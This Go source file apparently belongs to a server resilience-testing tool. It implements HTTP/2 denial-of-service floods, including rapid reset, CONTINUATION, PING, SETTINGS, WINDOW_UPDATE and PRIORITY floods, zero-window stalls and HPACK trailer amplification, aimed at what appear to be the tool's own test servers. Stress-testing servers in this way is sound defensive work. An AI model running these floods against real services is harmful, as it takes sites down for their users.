// SPDX-License-Identifier: Apache-2.0

package main

import (
	"context"
	"strings"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// frameAttacks are floods of HTTP/2 frames that cost the sender little.
func frameAttacks() []attack {
	const flood = 8
	one := func(name, what string, port uint16, run func(context.Context, *attacker) error) attack {
		return attack{Name: name, What: what, port: port, run: run}
	}
	return []attack{
		one("rapid-reset", "8 HTTP/2 connections with requests that are reset at once, without an end", httpEcho, floodH2(flood, resetAtOnce)),
		one("rapid-reset-deaf", "the same to a server that never reads", httpDeaf, floodH2(flood, resetAtOnce)),
		one("continuation", "8 HTTP/2 connections with a header of CONTINUATION frames without an end", httpDeaf, floodH2(flood, continued(16<<10))),
		one("continuation-empty", "the same with empty frames", httpDeaf, floodH2(flood, continued(0))),
		one("ping", "8 HTTP/2 connections with PING frames without an end", httpDeaf, floodH2(flood, ping)),
		one("settings", "8 HTTP/2 connections with SETTINGS frames without an end", httpDeaf, floodH2(flood, settings)),
		one("empty-data", "8 HTTP/2 connections with empty DATA frames without an end", httpDeaf, floodH2(flood, emptyData)),
		one("window-update", "8 HTTP/2 connections with WINDOW_UPDATE frames without an end", httpDeaf, floodH2(flood, windowUpdate)),
		one("priority", "8 HTTP/2 connections with PRIORITY frames without an end", httpDeaf, floodH2(flood, priority)),
		one("4 h2-window-0", "40 HTTP/2 connections with 200 downloads each, for which the client has no window", httpFlood, noWindow(40, 200)),
		one("4 h2-streams", "400 HTTP/2 connections with 1,000 downloads each, for which the client has no window", httpFlood, noWindow(400, 1_000)),
		one("1 h2-trailers", "40 HTTP/2 connections, 200 requests each with trailers of 200 references to a field of 4 kB", httpDeaf, trailers(40, 200, 200)),
	}
}

// batch is how many frames are written at a time.
const batch = 200

// floodH2 writes frames on each of several connections without an end. The first
// frame of a connection has number 0.
func floodH2(connections int, frame func(h *h2, number int) error) func(context.Context, *attacker) error {
	return func(ctx context.Context, a *attacker) error {
		return a.each(ctx, connections, func(ctx context.Context) error {
			h, err := a.dialH2(ctx)
			if err != nil {
				return err
			}
			for number := 0; ; number += batch {
				a.requests.Add(batch)
				err := h.write(func() error {
					for i := range batch {
						if err := frame(h, number+i); err != nil {
							return err
						}
					}
					return nil
				})
				if err != nil {
					return h.why(err)
				}
			}
		})
	}
}

// why prefers what the server said to an error of writing.
func (h *h2) why(err error) error {
	select {
	case said := <-h.ended:
		return said
	default:
		return err
	}
}

// open opens the next stream, within write.
func (h *h2) open(fields []byte, endHeaders, endStream bool) error {
	stream := h.next
	h.next += 2
	return h.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: fields, EndHeaders: endHeaders, EndStream: endStream})
}

// last is the stream that was opened last.
func (h *h2) last() uint32 { return h.next - 2 }

func resetAtOnce(h *h2, _ int) error {
	fields, err := h.fields()
	if err != nil {
		return err
	}
	if err := h.open(fields, true, true); err != nil {
		return err
	}
	return h.WriteRSTStream(h.last(), http2.ErrCodeCancel)
}

func continued(size int) func(h *h2, number int) error {
	// A field of HPACK: literal, never in the table, new name.
	var field []byte
	if size > 0 {
		field = literal(strings.Repeat("v", size-300))
	}
	return func(h *h2, number int) error {
		if number > 0 {
			return h.WriteContinuation(h.last(), false, field)
		}
		fields, err := h.fields()
		if err != nil {
			return err
		}
		return h.open(fields, false, false)
	}
}

// literal encodes a field named x that the table doesn't get.
func literal(value string) []byte {
	var out strings.Builder
	// Encoding into a string doesn't fail.
	_ = hpack.NewEncoder(&out).WriteField(hpack.HeaderField{Name: "x", Value: value, Sensitive: true})
	return []byte(out.String())
}

func ping(h *h2, _ int) error { return h.WritePing(false, [8]byte{}) }

func settings(h *h2, _ int) error {
	return h.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65_535})
}

func emptyData(h *h2, number int) error {
	if number > 0 {
		return h.WriteData(h.last(), false, nil)
	}
	fields, err := h.fields()
	if err != nil {
		return err
	}
	return h.open(fields, true, false)
}

func windowUpdate(h *h2, _ int) error { return h.WriteWindowUpdate(0, 1) }

func priority(h *h2, number int) error {
	return h.WritePriority(uint32(number)*2+1, http2.PriorityParam{StreamDep: 0, Weight: byte(number)})
}

// noWindow asks for answers that it gives no window for.
func noWindow(connections, streams int) func(context.Context, *attacker) error {
	return func(ctx context.Context, a *attacker) error {
		return a.each(ctx, connections, func(ctx context.Context) error {
			h, err := a.dialH2(ctx, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
			if err != nil {
				return err
			}
			fields, err := h.fields()
			if err != nil {
				return err
			}
			for range streams {
				if _, err := h.request(fields, true); err != nil {
					return h.why(err)
				}
			}
			return h.hold(ctx)
		})
	}
}

// trailers is references, in the trailers of requests.
func trailers(connections, streams, each int) func(context.Context, *attacker) error {
	return func(ctx context.Context, a *attacker) error {
		return a.each(ctx, connections, func(ctx context.Context) error {
			h, err := a.dialH2(ctx)
			if err != nil {
				return err
			}
			fields, err := h.fields(largeField())
			if err != nil {
				return err
			}
			plain, err := h.fields()
			if err != nil {
				return err
			}
			for i := range streams {
				if i > 0 {
					fields = plain
				}
				stream, err := h.request(fields, false)
				if err != nil {
					return h.why(err)
				}
				if err := h.write(func() error {
					return h.WriteHeaders(http2.HeadersFrameParam{
						StreamID: stream, BlockFragment: newest(each), EndHeaders: true, EndStream: true,
					})
				}); err != nil {
					return h.why(err)
				}
			}
			return h.hold(ctx)
		})
	}
}
